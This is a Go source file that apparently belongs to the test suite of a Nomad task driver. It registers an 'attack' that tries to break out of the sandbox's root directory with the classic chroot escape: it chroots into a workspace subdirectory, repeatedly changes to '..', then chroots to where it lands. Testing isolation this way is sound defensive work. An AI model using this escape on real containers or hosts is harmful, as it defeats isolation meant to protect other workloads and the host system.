// Copyright (c) The nomad-driver-harn authors
// SPDX-License-Identifier: MPL-2.0

// Leaves its root directory: chroot into a directory of it, then ".." from outside.

package main

import "golang.org/x/sys/unix"

func init() {
	attack(Attack{
		Root: true,
		Run: func() error {
			if err := unix.Chroot(at("WORKSPACE")); err != nil {
				return err
			}
			for range 30 {
				must(unix.Chdir(".."))
			}
			return unix.Chroot(".")
		},
	})
}
